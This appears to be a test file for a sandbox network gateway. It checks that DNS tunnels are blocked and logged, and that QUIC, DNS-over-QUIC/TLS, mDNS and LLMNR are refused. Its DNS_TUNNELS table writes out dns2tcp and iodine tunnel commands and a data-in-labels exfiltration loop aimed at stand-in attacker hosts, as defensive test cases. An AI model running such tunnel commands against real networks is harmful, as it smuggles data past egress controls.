import dgram from 'node:dgram';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { type Answer, decode, encode } from 'dns-packet';
import { facts, Stage } from '../e2e/stage.js';

const stage = new Stage();
/** Every name that the gateway's own name server was asked for. */
const asked: string[] = [];
const server = dgram.createSocket('udp4');

beforeAll(async () => {
  server.on('message', (bytes, { port, address }) => {
    const query = decode(bytes);
    const [question] = query.questions ?? [];
    if (question === undefined) return;
    asked.push(question.name);
    const address4: Answer = { type: 'A', name: question.name, data: '93.184.215.14', ttl: 60 };
    const answers = question.type === 'A' ? [address4] : [];
    const reply = encode({
      id: query.id ?? 0,
      type: 'response',
      flags: 0x180,
      questions: [question],
      answers,
    });
    server.send(reply, port, address);
  });
  server.bind(0, '127.0.0.1');
  await once(server, 'listening');
  await stage.http2('quic.test', (_request, response) => {
    response.setHeader('Alt-Svc', 'h3=":443"; ma=86400');
    response.end('over h2');
  });
});

afterAll(async () => {
  server.close();
  await stage.close();
});

/** Allows one name, and asks our server for it. */
function forwarding(): readonly string[] {
  const { port } = server.address() as AddressInfo;
  const text = `allow_domain: [allowed.test]\ndns: {mode: forward, servers: ["127.0.0.1:${port}"]}\n`;
  return ['--policy', stage.place.file('forward.yaml', text)];
}

const DNS_TUNNELS: readonly (readonly [what: string, script: string])[] = [
  ['dns2tcp through the resolver', 'timeout 8 dns2tcpc -z t.evil.test -d 2 2>&1'],
  ['dns2tcp with KEY records', 'timeout 8 dns2tcpc -z t.evil.test -T KEY -d 2 2>&1'],
  ['dns2tcp straight to its server', 'timeout 8 dns2tcpc -z t.evil.test -d 2 203.0.113.9 2>&1'],
  ['iodine', 'timeout 8 iodine -f -r -P secret 203.0.113.9 t.evil.test 2>&1'],
  [
    'data in labels',
    'for i in 1 2 3 4 5 6 7 8; do getent hosts "c2VjcmV0LXBhcnQt$i.t.evil.test"; getent hosts "x$i.evil.allowed.test.evil.test"; done; false',
  ],
];

test.each(DNS_TUNNELS)(
  '%s gets no packet to any name server, and what was asked is on record',
  async (what, script) => {
    asked.length = 0;
    const finished = await stage.sh(`getent hosts allowed.test >/dev/null || echo no answer\n${script}`, {
      flags: forwarding(),
    });
    expect(finished.stdout).not.toContain('no answer');
    expect(finished.code).not.toBe(0);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter(name => name.toLowerCase() !== 'allowed.test')).toEqual([]);
    const refused = facts(finished.events, 'dns.refused');
    if (what !== 'iodine') expect(refused.some(({ host }) => host.endsWith('evil.test'))).toBe(true);
    for (const { decision, destination } of refused) expect([decision, destination]).toEqual(['deny', null]);
  },
);

const PROBE = `
import socket, sys, time
kind = socket.SOCK_DGRAM if sys.argv[1] == 'udp' else socket.SOCK_STREAM
began = time.monotonic()
s = socket.socket(socket.AF_INET, kind)
s.settimeout(5)
try:
    s.connect((sys.argv[2], int(sys.argv[3])))
    s.send(b'x' * 1200)
    s.recv(1)
    print('open')
except socket.timeout:
    print('silent')
except OSError:
    print('refused' if time.monotonic() - began < 1 else 'late')
`;

const CLOSED: readonly (readonly [
  what: string,
  transport: string,
  address: string,
  port: number,
  named: RegExp,
])[] = [
  ['QUIC', 'udp', '93.184.215.14', 443, /quic/],
  ['DNS over QUIC', 'udp', '93.184.215.14', 853, /doq/],
  ['DNS over TLS', 'tcp', '93.184.215.14', 853, /TCP port 853/],
  ['multicast DNS', 'udp', '224.0.0.251', 5353, /mdns/],
  ['LLMNR', 'udp', '224.0.0.252', 5355, /llmnr/],
];

test.each(CLOSED)(
  '%s is closed at once, and the event names it',
  async (_what, transport, address, port, named) => {
    const probe = stage.place.file('probe.py', PROBE, 0o644);
    const finished = await stage.run(['python3', probe, transport, address, String(port)], {
      flags: ['--ro-bind', stage.place.dir],
    });
    expect(finished.stdout.trim()).toBe('refused');
    const refused = facts(finished.events, 'flow.refused').filter(fact => fact.port === port);
    expect(refused.map(({ host, blocked }) => [host, blocked])).toEqual([[address, true]]);
    expect(refused[0]?.block_reason).toMatch(named);
  },
);

test('a client that is told of HTTP/3 upstream stays with HTTP/2: Alt-Svc never arrives, and UDP 443 is refused at once', async () => {
  const finished = await stage.sh(
    `curl -sS -D - -w '%{http_version} %{time_total}\\n' https://quic.test/ https://quic.test/
     python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
try:
    s.connect((socket.gethostbyname("quic.test"), 443)); s.send(b"x" * 1200); s.recv(1); print("open")
except socket.timeout: print("silent")
except OSError: print("refused")'`,
  );
  expect(finished.stdout).not.toMatch(/alt-svc/i);
  expect(finished.stdout.match(/over h2/g)).toHaveLength(2);
  expect(finished.stdout.match(/^(?:over h2)?2 0\.\d+$/gm)).toHaveLength(2);
  expect(finished.stdout.trim().endsWith('refused')).toBe(true);
  const quic = facts(finished.events, 'flow.refused');
  expect(quic.map(({ host, port }) => [host, port])).toEqual([['quic.test', 443]]);
});
